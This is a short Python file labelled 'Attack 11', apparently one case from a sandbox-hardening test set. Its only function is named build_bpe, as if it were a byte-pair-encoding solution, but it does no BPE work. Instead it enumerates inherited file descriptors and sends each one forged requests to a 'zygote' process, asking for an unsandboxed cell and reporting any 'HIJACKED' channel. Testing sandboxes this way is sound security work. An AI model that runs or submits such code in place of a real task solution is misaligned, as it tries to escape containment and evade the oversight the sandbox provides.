# Attack 11: talk to the zygote through any descriptor the cell inherited, and ask it for an unsandboxed cell.
import gc
import json
import os
import socket


def build_bpe(corpus, max_vocab_size):
    channel = {o.sock.fileno() for o in gc.get_objects() if type(o).__name__ == "_Cell"}
    for name in sorted(os.listdir("/proc/self/fd"), key=int):
        fd = int(name)
        if fd < 3 or fd in channel:
            continue
        try:
            s = socket.socket(fileno=os.dup(fd))
            a, b = socket.socketpair()
            r, w = os.pipe()
            socket.send_fds(s, [json.dumps({"privileged": False, "mask": [], "uid": None}).encode()], [b.fileno(), w])
            s.settimeout(2)
            print("HIJACKED", fd, s.recv(100))
        except OSError as exc:
            print("blocked", fd, type(exc).__name__)
    print("open fds:", len(os.listdir("/proc/self/fd")))
    return []
